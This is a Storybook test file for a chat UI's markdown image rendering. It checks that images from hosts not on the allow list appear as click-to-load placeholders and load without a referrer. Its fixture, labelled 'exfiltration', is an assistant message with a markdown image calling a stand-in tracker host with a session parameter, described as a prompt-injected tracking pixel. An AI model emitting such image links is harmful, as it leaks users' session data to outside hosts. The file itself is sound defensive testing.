import { AttuneProvider, Message } from '@attune/ui';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, userEvent, within } from 'storybook/test';
import { darkBackdrop, maxWidth } from './support/decorators';
import { assistantMessage } from './support/story-session';

/** A tiny raster chart as a `data:` image: allowed by default, so it shows at once. */
const CHART =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAADAAAAAYCAIAAAAzn+mLAAAARUlEQVR42mN49+H/oEIMow6CIn+3p2houDsIlwWjDhp1EKUOIlV86DiIWlEw6qBRB1FqwdB30EBZPOqgUQeNOmjUQVBxALzE9jS8/s+jAAAAAElFTkSuQmCC';

const exfiltration = assistantMessage(
  'Here is the delivery chart you asked for:\n\n![Deliveries per week](https://tracker.example/pixel.png?session=abc123)\n\nEverything else is on the tracking page.',
);

const meta = {
  title: 'Components/Markdown images',
  component: Message,
  decorators: [maxWidth(680)],
} satisfies Meta<typeof Message>;

export default meta;
type Story = StoryObj<typeof meta>;

/**
 * An image from a host that is not allowed (a prompt-injected tracking pixel, say) shows as a
 * button naming the host and the alt text; nothing is requested until the visitor clicks it.
 */
export const BlockedImage: Story = {
  args: { message: exfiltration },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const button = await canvas.findByRole('button', { name: /Load image from tracker\.example/ });
    await expect(button).toHaveTextContent('Deliveries per week');
    await expect(canvasElement.querySelector('.attune-markdown img')).toBeNull();
    button.focus();
    await expect(button).toHaveFocus();
  },
};

/** The placeholder in the dark theme. */
export const BlockedImageDark: Story = {
  args: { message: exfiltration, theme: 'dark' },
  decorators: [darkBackdrop],
  play: async ({ canvasElement }) => {
    await within(canvasElement).findByRole('button', { name: /Load image from tracker\.example/ });
  },
};

/** A click (or Enter) on the placeholder loads the image, without a referrer. */
export const BlockedImageLoadedOnClick: Story = {
  args: { message: exfiltration },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const button = await canvas.findByRole('button', { name: /Load image from tracker\.example/ });
    button.focus();
    await userEvent.keyboard('{Enter}');
    const image = await canvas.findByRole('img', { name: 'Deliveries per week' });
    await expect(image).toHaveAttribute('src', 'https://tracker.example/pixel.png?session=abc123');
    await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
  },
};

/** Raster `data:` images, the page's own images and the origins an `AttuneProvider` allows load at once. */
export const AllowedImages: Story = {
  args: {
    message: assistantMessage(
      `An inline chart: ![Weekly deliveries](${CHART})\n\nA product photo from the shop's CDN: ![Sofa](https://cdn.parcelwise.example/sofa.png)`,
    ),
  },
  decorators: [
    (Story) => (
      <AttuneProvider imageOrigins={['https://cdn.parcelwise.example']}>
        <Story />
      </AttuneProvider>
    ),
  ],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(await canvas.findByRole('img', { name: 'Weekly deliveries' })).toHaveAttribute('src', CHART);
    await expect(canvas.getByRole('img', { name: 'Sofa' })).toBeTruthy();
    await expect(canvas.queryByRole('button', { name: /Load image/ })).toBeNull();
  },
};
